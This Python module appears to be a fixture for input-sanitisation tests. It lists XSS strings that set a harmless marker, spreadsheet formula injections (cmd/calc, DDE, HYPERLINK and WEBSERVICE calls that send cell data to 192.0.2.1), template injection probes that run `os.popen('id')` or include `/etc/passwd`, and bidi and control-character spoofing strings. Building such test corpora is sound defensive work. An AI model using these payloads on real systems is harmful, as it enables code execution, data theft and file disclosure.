"""What hostile people type: markup that would run, formulas, templates, and signs that hide or turn what follows.

Each script, wherever it ran, would set `window.ran`; each template, whoever worked it out, would show PRODUCT.
"""

from cell.texts import LINE

RAN = "ran"
PRODUCT = str(7 * 7077)
_DO = "window.ran=1"

# Out of an element, an attribute, a script, a style, a comment, a title: then something that runs by itself.
_OUT_OF = ("", '">', "'>", "</script>", "</style>", "</title>", "</textarea>", "-->", "]]>", "</template>", "</svg>")
_RUNS = (
    f"<script>{_DO}</script>",
    f"<img src=x onerror={_DO}>",
    f"<svg onload={_DO}>",
    f"<details open ontoggle={_DO}>",
    f"<input autofocus onfocus={_DO}>",
)
# Without leaving the attribute or the script that it may stand in, and the rest of what browsers have run.
_ALONE = (
    f'" onmouseover="{_DO}',
    f"' onfocus='{_DO}' autofocus='",
    f'" autofocus onfocus={_DO} x="',
    f"` onerror={_DO} `",
    f"';{_DO};'",
    f'";{_DO};"',
    f"\\';{_DO};//",
    f'\\";{_DO};//',
    f"${{{_DO}}}",
    f"`+({_DO})+`",
    f"</script ><script >{_DO}</script >",
    f"<ScRiPt>{_DO}</sCrIpT>",
    f"<script/x>{_DO}</script>",
    f"<<script>{_DO}//<</script>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"<script\n>{_DO}</script>",
    f"<script src=data:text/javascript,{_DO}></script>",
    f"<script type=module>{_DO}</script>",
    f'<script type="application/json" id="boot">{{"x":1}}</script><script>{_DO}</script>',
    f"<!--<script>{_DO}</script>",
    f"<!--><script>{_DO}</script>-->",
    f"<iframe srcdoc='<script>parent.{RAN}=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{RAN}=1></iframe>",
    f"<iframe onload={_DO}></iframe>",
    f"<object data=javascript:{_DO}></object>",
    f"<embed src=javascript:{_DO}>",
    f"<a href=javascript:{_DO} id=x>x</a>",
    f"<a href='java\tscript:{_DO}'>x</a>",
    f"<a href=&#106;avascript:{_DO}>x</a>",
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}",
    f" javascript:{_DO}//https://example.org",
    f"data:text/html,<script>opener.{RAN}=1</script>",
    f"vbscript:{RAN}=1",
    f"<form action=javascript:{_DO}><button autofocus>x</button></form>",
    f"<button formaction=javascript:{_DO}>x</button>",
    f"<math href=javascript:{_DO}>x</math>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_DO}/>#x'/></svg>",
    f"<svg><a href=javascript:{_DO}><text>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_DO}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={_DO}>'>",
    f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart={_DO}>",
    f"<p style='width:expression({_DO})'>",
    f"<link rel=stylesheet href=javascript:{_DO}>",
    f"<link rel=import href=data:text/html,<script>{_DO}</script>>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_DO}'>",
    f"<base href=javascript:{_DO}//>",
    f"<body onload={_DO}>",
    f"<body onpageshow={_DO}>",
    f"<html onmouseenter={_DO}>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}>",
    f"<video poster=javascript:{_DO}>",
    f"<img src=x:x onerror={_DO}//",
    f"<img/src=x/onerror={_DO}>",
    f"<img src=x onerror\n={_DO}>",
    f'<img src="x" onerror="{_DO}" hidden>',
    f"<img srcset=x onerror={_DO}>",
    f"<img src=x onerror=&#119;indow.{RAN}=1>",
    f"<image src=x onerror={_DO}>",
    f"<select autofocus onfocus={_DO}>",
    f"<textarea autofocus onfocus={_DO}>",
    f"<marquee onstart={_DO}>x</marquee>",
    f"<dialog open onclose={_DO}></dialog>",
    f"<p contenteditable autofocus onfocus={_DO}>x</p>",
    f"<p tabindex=1 autofocus onfocus={_DO}>x</p>",
    f"<x onpointerrawupdate={_DO} style=position:fixed;inset:0>",
    f"<template shadowrootmode=open><img src=x onerror={_DO}></template>",
    f"&lt;img src=x onerror={_DO}&gt;",
    f"&#60;img src=x onerror={_DO}&#62;",
    f"%3Cimg%20src=x%20onerror={_DO}%3E",
    f"\\u003cimg src=x onerror={_DO}\\u003e",
    f"\\x3cimg src=x onerror={_DO}\\x3e",
    f"\uff1cimg src=x onerror={_DO}\uff1e",
    f"<img src=x onerror={_DO}>\u2028<b>",
    '{"__proto__":{"innerHTML":"<img src=x onerror=window.ran=1>"}}',
    "constructor.constructor('window.ran=1')()",
    "<b>bold</b><i>marked</i>",
    "<!DOCTYPE html><html><head>",
    "]]><![CDATA[<script>window.ran=1</script>",
    "<?xml version='1.0'?><?php window.ran=1 ?>",
    "[x](javascript:window.ran=1)",
    "![x](x' onerror='window.ran=1)",
)
XSS = (*(f"{out}{runs}" for out in _OUT_OF for runs in _RUNS), *_ALONE)

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    *("@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1/?"&A1,"x")', '=WEBSERVICE("http://192.0.2.1/")'),
    *('=IMPORTXML("http://192.0.2.1/","//a")', '=IMPORTDATA("http://192.0.2.1/")', '=IMAGE("http://192.0.2.1/x")'),
    *('=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\cmd.exe /c calc'!''", "=rundll32|'URL.dll,OpenURL calc'!A"),
    *('=IMPORTRANGE("x","A1")', '=QUERY("x")', "=NOW()", "=A1", "=-1", "=+1", "==1", "=(1)", "= 1", "+A1", "-A1"),
    *(
        "@A1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
        "\ufe661",
        "\u207a1",
        "\u22121",
        "\u200b=1+1",
        "\u00a0=1+1",
    ),
    *(";=1+1", ",=1+1", '"=1+1', '";=1+1;"', '","=1+1","', "%0A=1+1", "'=1+1", "x\t=1+1"),
)

TEMPLATES = (
    *("{{7*7077}}", "{% print(7*7077) %}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{{request.cookies}}"),
    *("${7*7077}", "#{7*7077}", "*{7*7077}", "@{7*7077}", "<%= 7*7077 %>", "{7*7077}", "{{=7*7077}}", "[[7*7077]]"),
    *("{{'a'.__class__.__mro__[1].__subclasses__()}}", "{{lipsum.__globals__['os'].popen('id').read()}}"),
    *("{{cycler.__init__.__globals__.os}}", "{{url_for.__globals__}}", "{% raw %}{{7*7077}}{% endraw %}"),
    *("{0.__class__.__init__.__globals__}", "{who.__class__}", "{text}", "%(name)s", "%s%s%n", "%(config)s"),
    *(
        "{#7*7077#}",
        "{{7*'7077'}}",
        "{{[].__class__}}",
        "{%include '/etc/passwd'%}",
        "$(7*7077)",
        "`7*7077`",
        "#set($x=7*7077)$x",
    ),
)

# What may not be kept at all: it turns, ends or hides what follows.
REFUSED = (
    *("a\x00b", "\x00", "a\x08b", "a\x1b[31mb", "a\x7fb", "a\x85b", "a\x9fb", "\u202eevil", "a\u202ab", "a\u202bb"),
    *("a\u202cb", "a\u202db", "a\u2066b\u2069", "a\u2067b", "a\u2068b", "a\u2069b", "photo\u202egpj.exe"),
    *("\ud800", "a\udfffb", "\udfff\ud800", "a\x01b", "a\x0eb", "a\x1fb"),
)
# What is kept as it is, and must neither break a page nor pass for nothing.
UNSEEN = (
    *("a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u200eb", "a\u200fb", "a\u061cb"),
    *("a\u180eb", "a\u2800b", "a\u3164b", "a\ufe0fb", "e\u0301\u0301\u0301", "a\U000e0041b", "\ufdfa\ufdfa"),
    *(
        "a\u034fb",
        "Z\u0334\u0321\u0353a\u0334\u0322l\u0335go",
        "ﬀ",
        "İstanbul",
        "\ufffd",
        "\ufffe",
        "\U0010ffff",
        "a\u2028b",
    ),
    "a\u2029b",
)

KEPT = (*XSS, *FORMULAS, *TEMPLATES, *UNSEEN)
FAMILIES = {
    "xss": (XSS, 100),
    "formulas": (FORMULAS, 30),
    "templates": (TEMPLATES, 20),
    "hidden": (REFUSED + UNSEEN, 20),
}


def packs(limit: int = LINE) -> list[tuple[str, int]]:
    """Every payload that is kept, in texts of a length, and how many each holds. Each text begins with a formula."""
    found: list[tuple[str, int]] = []
    left = [one for one in KEPT if one not in FORMULAS]
    for first in (*FORMULAS, *FORMULAS):
        text, count = first, 1
        while left and len(text) + 1 + len(left[0]) <= limit:
            text, count = f"{text} {left.pop(0)}", count + 1
        if count > 1 or len(found) < len(FORMULAS):
            found.append((text, count))
    assert not left
    return found
